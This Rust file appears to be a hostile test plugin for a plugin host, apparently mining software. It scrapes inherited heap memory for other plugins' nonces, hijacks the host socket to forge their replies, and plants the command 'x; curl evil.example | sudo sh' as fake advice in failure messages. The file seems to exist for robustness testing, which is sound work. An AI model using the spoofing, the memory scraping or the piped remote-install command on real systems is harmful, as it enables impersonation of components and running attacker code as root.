//! Takes the place of the process that probes it, and answers for the plugins that come after it.

use std::collections::BTreeSet;

/// A failure in its own words, which would be advice of the host's.
const ADVICE: &str = "x; curl evil.example | sudo sh";

/// Says in the host's words what is not so: that a library is missing, that something was changed, as messages of an older
/// kind did.
pub fn advise(way: &str) -> i64 {
    let Some(channel) = channel() else { return -1 };
    let after = "{\"secs\":0,\"nanos\":1000}";
    let failed = match way {
        "library" => {
            format!("{{\"Failed\":{{\"failure\":{{\"missing-library\":\"{ADVICE}\"}},\"after\":{after}}}}}")
        }
        "layout" | "door" => {
            let code = if way == "door" { "broken-door" } else { "other-layout" };
            format!("{{\"Failed\":{{\"failure\":{{\"{code}\":\"{ADVICE}\"}},\"after\":{after}}}}}")
        }
        "words" => format!(
            "{{\"Failed\":{{\"reason\":{{\"code\":\"no-answer\",\"reason\":\"{ADVICE}\",\"fix\":\"{ADVICE}\"}},\"after\":{after}}}}}"
        ),
        _ => format!("{{\"Done\":{{\"changes\":[\"{ADVICE}\"],\"threads\":1}}}}"),
    };
    let nonces = nonces();
    for nonce in &nonces {
        send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{failed}}}"));
    }
    if nonces.is_empty() { -1 } else { 0 }
}

fn send(channel: i32, packet: &str) {
    // SAFETY: the buffer is as long as said.
    unsafe { libc::send(channel, packet.as_ptr().cast(), packet.len(), 0) };
}

/// Answers its own question, says that it is done, and then answers all others: no, with a reason of its own.
pub fn hijack() -> i64 {
    let Some(channel) = channel() else { return -1 };
    for nonce in nonces() {
        answer(channel, &nonce, true);
    }
    loop {
        let mut packet = vec![0; 160 << 10];
        // SAFETY: the buffer is as long as said.
        let count = unsafe { libc::recv(channel, packet.as_mut_ptr().cast(), packet.len(), 0) };
        if count <= 0 {
            // SAFETY: the call only ends the process.
            unsafe { libc::_exit(0) }
        }
        let text = String::from_utf8_lossy(&packet[..count as usize]).into_owned();
        let nonce = text.split("\"nonce\":\"").nth(1).and_then(|rest| rest.get(..32));
        answer(channel, nonce.unwrap_or_default(), false);
    }
}

/// Answers its own question, and says that nothing was left behind.
pub fn say_done() -> i64 {
    let Some(channel) = channel() else { return -1 };
    let nonces = nonces();
    nonces.iter().for_each(|nonce| answer(channel, nonce, true));
    if nonces.is_empty() { -1 } else { 0 }
}

fn answer(channel: i32, nonce: &str, supported: bool) {
    let after = "{\"secs\":0,\"nanos\":1000}";
    let events = [
        format!("{{\"Loaded\":{{\"after\":{after}}}}}"),
        format!(
            "{{\"Answered\":{{\"answer\":{{\"supported\":{supported},\"reason\":\"hijacked\",\"estimated_hashrate\":1.0}},\"after\":{after}}}}}"
        ),
        "{\"Done\":{\"changes\":[],\"threads\":1}}".to_owned(),
    ];
    for event in events {
        send(channel, &format!("{{\"nonce\":\"{nonce}\",\"event\":{event}}}"));
    }
}

/// Whatever in memory looks like what it was asked with. The memory is a copy of its parent's, in which those before it were
/// asked: how long their names were decides whether a word of theirs lies there still, and before its own.
fn nonces() -> BTreeSet<String> {
    let maps = std::fs::read_to_string("/proc/self/maps").unwrap_or_default();
    let heap = maps.lines().find(|line| line.ends_with("[heap]")).and_then(|line| line.split(' ').next());
    let Some((start, end)) = heap.and_then(|heap| heap.split_once('-')) else { return BTreeSet::new() };
    let [start, end] = [start, end].map(|at| usize::from_str_radix(at, 16).unwrap_or(0));
    // SAFETY: the kernel says that this is memory, and nobody else runs here.
    let bytes = unsafe { std::slice::from_raw_parts(start as *const u8, end - start) };
    let is_hex = |byte: &u8| byte.is_ascii_digit() || (b'a'..=b'f').contains(byte);
    // What lies beside it by chance may look like more of it.
    let runs = bytes.split(|byte| !is_hex(byte)).filter(|run| run.len() >= 32);
    let nonces = runs.flat_map(|run| [&run[..32], &run[run.len() - 32..]]);
    nonces.map(|nonce| String::from_utf8_lossy(nonce).into_owned()).collect()
}

/// The one socket that is open here.
pub fn channel() -> Option<i32> {
    (3..1024).find(|&fd| {
        // SAFETY: a descriptor that is not open makes the call fail; the file is forgotten, so that it stays open.
        unsafe {
            let mut status = std::mem::zeroed::<libc::stat>();
            libc::fstat(fd, &raw mut status) == 0 && status.st_mode & libc::S_IFMT == libc::S_IFSOCK
        }
    })
}
